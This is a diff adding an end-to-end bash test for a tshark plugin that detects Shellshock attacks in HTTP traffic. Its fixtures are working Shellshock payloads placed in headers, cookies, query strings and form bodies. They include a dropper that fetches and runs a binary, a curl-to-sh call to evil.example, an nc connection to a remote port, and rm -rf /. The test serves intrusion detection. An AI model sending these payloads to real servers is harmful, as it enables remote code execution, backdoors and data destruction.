@@ -1,0 +1,138 @@
+#!/bin/bash
+# e2e_http.sh - Shellshock over HTTP through the real tshark and the built plugin.
+#
+# One generated capture holds every case; each request that matters carries
+# an @label, and the assertions read the fields tshark printed for it.
+source "$(dirname "$0")/lib.sh"
+hs_setup
+hs_require_plugin shellshock
+
+hs_gencap http <<'EOF'
+time 1411776000
+# A bot's download payload in User-Agent: red, with the URL and host.
+tcp 81.2.69.160:40000 192.0.2.10:80
+c "GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86\"\r\nAccept: */*\r\n\r\n" @ua
+s "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n" @ua_resp
+close
+# Nikto's two probes in one request: two items, both green, 6271 and 6278.
+tcp 81.2.69.160:40001 192.0.2.10:80
+c "GET /cgi-bin/printenv HTTP/1.1\r\nUser-Agent: () { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;\r\nReferer: () { _; } >_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }\r\nHost: 192.0.2.10\r\n\r\n" @nikto
+close
+# A ping callback: yellow, host extracted.
+tcp 216.160.83.58:40002 192.0.2.10:80
+c "GET / HTTP/1.0\r\nUser-Agent: () { :;}; /bin/ping -c1 10.246.50.2\r\n\r\n" @ping
+close
+# A request split over three segments: judged once, on the last one.
+tcp 81.2.69.160:40003 192.0.2.10:80
+c "GET /cgi-bin/a.cgi HTTP/1.1\r\nHost: 192.0.2.10\r\n" @split1
+c "Cookie: lang=en; sid=() { :;}; curl -s http://evil.example/s.sh | sh\r\n" @split2
+c "\r\n" @split3
+close
+# Percent-encoded payload in a query parameter.
+tcp 81.2.69.160:40004 192.0.2.10:80
+c "GET /cgi-bin/q?x=%28%29%20%7B%20%3A%3B%7D%3B%20echo%20hi HTTP/1.1\r\nHost: a\r\n\r\n" @uri
+close
+# A form body in a second segment.
+tcp 81.2.69.160:40005 192.0.2.10:80
+c "POST /cgi-bin/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 61\r\n\r\n" @form1
+c "user=admin&pass=%28%29+%7B+%3A%3B+%7D%3B+nc+198.51.100.5+4444" @form2
+close
+# Ordinary browser traffic and JavaScript with "() {": nothing.
+tcp 89.160.20.112:40006 192.0.2.10:80
+c "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nReferer: https://www.example.com/(see below) {x}\r\n\r\n" @browser
+s "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 46\r\n\r\n<script>function doClear() { x = 1; }</script>" @js_response
+c "POST /api HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n{\"query\":\"query { viewer() { login } }\",\"v\":\"x\"}  " @graphql
+close
+# Two pipelined requests in one segment; only the second is an attack.
+tcp 81.2.69.160:40007 192.0.2.10:80
+c "GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\nX-Api: () { :; }; rm -rf /\r\n\r\n" @pipelined
+close
+# IPv6, and a folded header line (Wireshark 4.0 does not join it; we do).
+tcp [2001:218::1]:40008 [2001:db8::10]:80
+c "GET / HTTP/1.1\r\nHost: a\r\nX-Folded: () { :; };\r\n  /usr/bin/python3 -c 'print(1)'\r\n\r\n" @ipv6
+close
+# Hostile: a 200 kB header, NULs and stray bytes, an unclosed body.
+tcp 81.2.69.160:40009 192.0.2.10:80
+c "GET / HTTP/1.1\r\nX-Big: () { " "A"*200000 "\r\nX-Nul: () { :;}; echo \0\xff\xfe\r\n\r\n" @hostile
+close
+EOF
+
+hs_table http shellshock.grade shellshock.cve shellshock.vector shellshock.header \
+    shellshock.command shellshock.url shellshock.host shellshock.payload
+
+A='|~|'
+hs_eq "UA: red" "$(hs_get http ua shellshock.grade)" "3"
+hs_eq "UA: CVE" "$(hs_get http ua shellshock.cve)" "CVE-2014-6271"
+hs_eq "UA: vector" "$(hs_get http ua shellshock.vector)" "http.header"
+hs_eq "UA: header" "$(hs_get http ua shellshock.header)" "User-Agent"
+hs_eq "UA: commands unwrapped" "$(hs_get http ua shellshock.command)" "cd${A}wget${A}chmod${A}./x86"
+hs_eq "UA: url" "$(hs_get http ua shellshock.url)" "http://198.51.100.9/x86"
+hs_eq "UA: host" "$(hs_get http ua shellshock.host)" "198.51.100.9"
+hs_eq "UA: response gets nothing" "$(hs_get http ua_resp shellshock.grade)" ""
+
+hs_eq "Nikto: two green items" "$(hs_get http nikto shellshock.grade)" "1${A}1"
+hs_eq "Nikto: headers" "$(hs_get http nikto shellshock.header)" "User-Agent${A}Referer"
+hs_eq "Nikto: CVEs" "$(hs_get http nikto shellshock.cve)" \
+    "CVE-2014-6271${A}CVE-2014-6271${A}CVE-2014-6278"
+
+hs_eq "ping: yellow" "$(hs_get http ping shellshock.grade)" "2"
+hs_eq "ping: host" "$(hs_get http ping shellshock.host)" "10.246.50.2"
+
+hs_eq "split: nothing on the first segment" "$(hs_get http split1 shellshock.grade)" ""
+hs_eq "split: nothing on the middle segment" "$(hs_get http split2 shellshock.grade)" ""
+hs_eq "split: red on the completing segment" "$(hs_get http split3 shellshock.grade)" "3"
+hs_eq "split: cookie payload keeps its text" "$(hs_get http split3 shellshock.payload)" \
+    "() { :;}; curl -s http://evil.example/s.sh | sh"
+hs_eq "split: host" "$(hs_get http split3 shellshock.host)" "evil.example"
+
+hs_eq "uri: vector" "$(hs_get http uri shellshock.vector)" "http.uri"
+hs_eq "uri: decoded payload" "$(hs_get http uri shellshock.payload)" "() { :;}; echo hi"
+hs_eq "uri: green" "$(hs_get http uri shellshock.grade)" "1"
+
+hs_eq "form: nothing on the headers" "$(hs_get http form1 shellshock.grade)" ""
+hs_eq "form: body vector" "$(hs_get http form2 shellshock.vector)" "http.body"
+hs_eq "form: red (nc)" "$(hs_get http form2 shellshock.grade)" "3"
+hs_eq "form: decoded" "$(hs_get http form2 shellshock.payload)" "() { :; }; nc 198.51.100.5 4444"
+
+hs_eq "browser: nothing" "$(hs_get http browser shellshock.grade)" ""
+hs_eq "JavaScript response: nothing" "$(hs_get http js_response shellshock.grade)" ""
+hs_eq "GraphQL body: nothing" "$(hs_get http graphql shellshock.grade)" ""
+
+hs_eq "pipelined: one red item" "$(hs_get http pipelined shellshock.grade)" "3"
+hs_eq "pipelined: header" "$(hs_get http pipelined shellshock.header)" "X-Api"
+
+hs_eq "IPv6 folded header: red (python -c)" "$(hs_get http ipv6 shellshock.grade)" "3"
+hs_eq "IPv6 folded header: command" "$(hs_get http ipv6 shellshock.command)" "python3"
+
+hostile_grades=$(hs_get http hostile shellshock.grade)
+hs_eq "hostile: both headers graded" "$hostile_grades" "1${A}1"
+hs_eq "hostile: NUL shown escaped" "$(hs_get http hostile shellshock.payload | grep -c 'echo \\x00\\xFF\\xFE')" "1"
+
+# Display filters from the README.
+hs_eq "filter grade==red" "$(hs_count http 'shellshock.grade==red')" "5"
+hs_eq "filter grade>=yellow" "$(hs_count http 'shellshock.grade >= yellow')" "6"
+hs_eq "filter cve 6278" "$(hs_count http 'shellshock.cve == "CVE-2014-6278"')" "1"
+hs_eq "filter url contains x86" "$(hs_count http 'shellshock.url contains "x86"')" "1"
+hs_eq "filter any shellshock" "$(hs_count http 'shellshock')" "9"
+hs_eq "expert info red" "$(hs_count http '_ws.expert.message contains "graded red"')" "5"
+hs_eq "Info column mark" \
+    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y 'frame.number == '"$(hs_frame http ua)" | grep -c '\[Shellshock: red\]')" "1"
+
+# The fields tshark -G fields lists, with DESIGN.md's types.
+fields=$(hs_tshark -G fields | awk -F'\t' '$1 == "F" && $3 ~ /^shellshock\./ { print $3 " " $4 }' | sort)
+hs_eq "tshark -G fields" "$fields" "$(printf '%s\n' 'shellshock.command FT_STRING' \
+    'shellshock.cve FT_STRING' 'shellshock.grade FT_UINT8' 'shellshock.header FT_STRING' \
+    'shellshock.host FT_STRING' 'shellshock.payload FT_STRING' 'shellshock.url FT_STRING' \
+    'shellshock.vector FT_STRING')"
+
+# A user row in the grade table (UAT) wins over the default: wget -> green,
+# ping -> red.  The file lives in the profile, as Wireshark writes it.
+mkdir -p "$HS_TMP/home/.config/wireshark"
+printf '%s\n' '# This file is automatically generated, DO NOT MODIFY.' \
+    '"ping","red","callbacks count as red here"' >"$HS_TMP/home/.config/wireshark/shellshock_grades"
+if [ "$(id -u)" = 0 ]; then chown -R nobody "$HS_TMP/home/.config"; fi
+hs_eq "UAT row: ping becomes red" \
+    "$(hs_tshark -r "$HS_TMP/http.pcap" -Y "frame.number == $(hs_frame http ping)" -T fields -e shellshock.grade)" "3"
+rm "$HS_TMP/home/.config/wireshark/shellshock_grades"
+
+hs_done
